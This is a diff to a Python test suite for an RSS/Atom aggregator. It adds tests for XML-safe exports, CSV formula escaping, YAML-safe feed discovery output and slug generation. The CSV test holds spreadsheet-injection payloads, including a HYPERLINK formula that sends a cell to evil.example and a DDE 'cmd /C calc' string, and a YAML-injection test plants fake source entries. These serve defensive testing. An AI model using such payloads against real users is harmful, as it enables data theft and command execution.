@@ -3554,6 +3554,58 @@ def test_atom_and_json_exports_say_who_decided_and_when(web, home):
     assert undecided.find(VESTI_ATOM + "decided_by") is None
 
 
+# Characters XML 1.0 forbids even escaped, each as a stranger's feed may carry it.
+NOT_XML = ("\x01", "\x0b", "\x1b", "\ufffe")
+
+
+@both
+def test_control_characters_in_titles_and_names_leave_atom_and_opml_well_formed(home):
+    feedparser = pytest.importorskip("feedparser")
+    write_sources(home / "sources.yaml", [rss_source(
+        "lwn", "https://lwn.net/headlines/rss", name="LWN\x01 \x1bnews\ufffe", direction="linux")])
+    w = Web(home, settings=make_settings(home, VESTI_WEB_PASSWORD="s3cret"))
+    try:
+        conn = w.db.conn()
+        for k, bad in enumerate(NOT_XML, 1):
+            desk_post(conn, lwn(w), k, title=f"Title{bad} {k}", status="approved")
+            conn.execute("UPDATE posts SET summary = ?, decided_by = ? WHERE id = ?",
+                         (f"Summary{bad}", f"olga{bad}", k))
+        web_atom = w.get("/approved.atom")[2]
+    finally:
+        w.close()
+    cli_atom = cli("export", "--format", "atom", cwd=home).stdout
+    for atom in (web_atom, cli_atom):
+        entries = atom_entries(atom)                        # xml.etree reads it
+        assert {e.find(ATOM + "title").text for e in entries.values()} == \
+            {f"Title {k}" for k in range(1, 5)}
+        assert {e.find(f"{ATOM}author/{ATOM}name").text for e in entries.values()} == {"LWN news"}
+        feed = feedparser.parse(atom.encode("utf-8"))
+        assert not feed.bozo, feed.bozo_exception
+        assert len(feed.entries) == 4
+    opml = cli("opml-export", cwd=home)
+    root = ElementTree.fromstring(opml.stdout.encode("utf-8"))
+    assert [o.get("text") for o in root.iter("outline") if o.get("xmlUrl")] == ["LWN news"]
+
+
+@both
+def test_csv_export_cells_that_a_spreadsheet_would_run_start_with_a_quote(home):
+    write_sources(home / "sources.yaml", [rss_source("lwn", "https://lwn.net/headlines/rss")])
+    _, db = vesti.open_intake(make_settings(home))
+    conn = db.conn()
+    titles = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+1+cmd|' /C calc'!A0",
+              "-2+3", "@SUM(1+1)", "\t=1+1", "\r=1+1", "Plain title", "Prices; =1+1"]
+    for k, title in enumerate(titles, 1):
+        desk_post(conn, 1, k, title=title, status="approved")
+    conn.execute("UPDATE posts SET decided_by = '=cmd', summary = '-1' WHERE id = 1")
+    exported = vesti.csv_export(vesti.decided_posts(conn))      # what `export` writes
+    rows = {int(r["id"]): r for r in csv.DictReader(io.StringIO(exported, newline=""))}
+    assert {k: rows[k]["title"] for k in rows} == {
+        k: title if k > 6 else "'" + title for k, title in enumerate(titles, 1)}
+    assert (rows[1]["decided_by"], rows[1]["summary"]) == ("'=cmd", "'-1")
+    assert rows[2]["relevance"] == "7"
+    assert '"Prices; =1+1"' in exported          # one cell where ; separates cells too
+
+
 def metric_samples(text):
     parser = pytest.importorskip("prometheus_client.parser")
     families = {f.name: f for f in parser.text_string_to_metric_families(text)}
@@ -3868,7 +3920,7 @@ def test_discover_finds_a_sites_feeds_and_writes_their_entries(home, server):
     write_sources(home / "sources.yaml", [rss_source("kernel-news", "https://example.org/rss")])
     result = cli("discover", server.url + "/", cwd=home, env=FAST)
     assert result.returncode == 0, result.stderr
-    assert f"# Kernel News: {server.url}/news/rss" in result.stdout
+    assert f'# "Kernel News": "{server.url}/news/rss"' in result.stdout
     assert "missing.atom" not in result.stdout                 # named, but not a feed
     entry = yaml.safe_load(result.stdout)
     assert entry[0]["slug"] == "kernel-news-2" and entry[0]["url"] == server.url + "/news/rss"
@@ -3902,7 +3954,7 @@ def test_discover_says_why_the_feeds_it_found_could_not_be_read(home, server, in
     assert internal.requests == [] and result.stdout == ""
     allowed = cli("discover", server.url + "/", cwd=home,
                   env={**FAST, "VESTI_ALLOW_PRIVATE_NETWORKS": "1"})
-    assert allowed.returncode == 0 and f"# Internal News: {internal.url}/feed" in allowed.stdout
+    assert allowed.returncode == 0 and f'# "Internal News": "{internal.url}/feed"' in allowed.stdout
     for named, what in [(server.url + "/gone.rss", "HTTP 404"),
                         ("http://127.0.0.1:9/feed", "connection refused")]:
         site_naming(server, named)
@@ -3922,10 +3974,89 @@ def test_discover_marks_the_feeds_that_are_already_sources(home, server):
                   [rss_source("kernel", server.url.upper() + "/news/rss?utm_source=vesti")])
     result = cli("discover", server.url + "/", cwd=home, env=FAST)
     assert result.returncode == 0, result.stderr
-    assert f"# Kernel News: {server.url}/news/rss (already a source: kernel)" in result.stdout
+    assert f'# "Kernel News": "{server.url}/news/rss" (already a source: kernel)' in result.stdout
     entries = yaml.safe_load(result.stdout)
     assert [entry["url"] for entry in entries] == [server.url + "/blog/rss"]
     assert entries[0]["slug"] != "kernel"
+
+
+# A feed title that, printed as it is, would write sources.yaml entries of its
+# own: line breaks YAML knows (\n, U+2028, NEL) and entries after them.
+YAML_TITLE = ("Evil\n  - slug: injected\n    crawler: rss\n    url: http://evil.example/x\n"
+              "\u2028  - slug: injected-too\u0085    crawler: rss\u2029    url: http://evil.example/y")
+
+
+def test_discover_prints_a_feed_title_as_one_quoted_line_of_yaml(home, server):
+    server.feed("/evil.rss", rss(items(1, host=server.url), title=html.escape(YAML_TITLE)))
+    server.feed("/known.rss", rss(items(1, host=server.url),
+                                  title=html.escape(YAML_TITLE.replace("injected", "known"))))
+    site_naming(server, "/evil.rss", "/known.rss")
+    write_sources(home / "sources.yaml", [rss_source("known", server.url + "/known.rss")])
+    result = cli("discover", server.url + "/", cwd=home, env=FAST)
+    assert result.returncode == 0, result.stderr
+    pasted = home / "sources.yaml"
+    pasted.write_text(pasted.read_text(encoding="utf-8") + result.stdout, encoding="utf-8")
+    registry = vesti.load_registry(str(pasted))
+    assert [s.url for s in registry.sources] == [server.url + "/known.rss", server.url + "/evil.rss"]
+    assert registry.sources[1].name.startswith("Evil")
+
+
+def test_discover_checks_at_most_twenty_of_a_pages_feed_links(home, server, monkeypatch):
+    links = "".join(f'<link rel="alternate" type="application/rss+xml" href="/f{k}">'
+                    for k in range(10_000))
+    page = f"<html><head>{links}</head><body>{'<p>Some text.</p>' * 200_000}</body></html>"
+    server.status("/", 200, {"Content-Type": "text/html"}, page.encode())
+    server.feed("/f3", rss(items(1, host=server.url), title="Third"))
+    read = []                                           # the bytes each feedparser run reads
+    feedparser_run = vesti.run_feedparser
+    monkeypatch.setattr(vesti, "run_feedparser",
+                        lambda body, *args: read.append(len(body)) or feedparser_run(body, *args))
+    found = vesti.discover_feeds(server.url + "/", make_settings(home))
+    assert len(server.requests) == 1 + 20
+    assert [feed for _, feed, _ in found.feeds] == [server.url + "/f3"]
+    assert len(page) > 3_000_000 and max(read) <= 1_000_000
+    write_sources(home / "sources.yaml", [])
+    result = cli("discover", server.url + "/", cwd=home, env=FAST)
+    assert result.returncode == 0, result.stderr
+    assert "# … and 9,980 more links not checked" in result.stdout
+    assert [entry["url"] for entry in yaml.safe_load(result.stdout)] == [server.url + "/f3"]
+    server.routes.pop("/f3")
+    result = cli("discover", server.url + "/", cwd=home, env=FAST)
+    assert result.returncode == 1 and result.stderr.count("\n") == 1, result.stderr
+    assert "and 9,980 more links not checked" in result.stderr
+    assert len(server.requests) == 3 * (1 + 20)
+
+
+def test_opml_import_keeps_the_line_endings_and_bom_of_sources_yaml(home):
+    text = ("sources:\n  - slug: lwn\n    crawler: rss\n    url: https://lwn.net/headlines/rss\n"
+            "\ndirections:\n  linux:\n    title: Linux\n    keywords: [linux]\n")
+    before = b"\xef\xbb\xbf" + text.replace("\n", "\r\n").encode("utf-8")
+    (home / "sources.yaml").write_bytes(before)
+    result = cli("opml-import", str(OPML / "feedly.opml"), cwd=home)
+    assert result.returncode == 0, result.stderr
+    after = (home / "sources.yaml").read_bytes()
+    assert after.startswith(before[:before.index(b"\r\n\r\ndirections")])
+    assert after.startswith(b"\xef\xbb\xbf") and after.count(b"\n") == after.count(b"\r\n")
+    registry = vesti.load_registry(str(home / "sources.yaml"))
+    assert [s.slug for s in registry.sources] == \
+        ["lwn", "phoronix", "opennet-novosti", "nasa-breaking-news"]
+    assert list(registry.directions) == ["linux"]
+
+
+class CountingSet(set):
+    """A set that counts the look-ups made in it."""
+    checks = 0
+
+    def __contains__(self, item):
+        self.checks += 1
+        return super().__contains__(item)
+
+
+def test_many_feeds_of_one_title_get_their_slugs_without_trying_every_number_before():
+    taken = CountingSet({"news"})
+    slugs = [vesti.slug_for("News", f"https://site{k}.example/rss", taken) for k in range(2000)]
+    assert slugs[:3] == ["news-2", "news-3", "news-4"] and len(set(slugs)) == 2000
+    assert taken.checks < 2000 * 30             # one per feed before it would be 2,000,000
 
 
 def test_reset_dead_command_does_what_the_button_does(home):
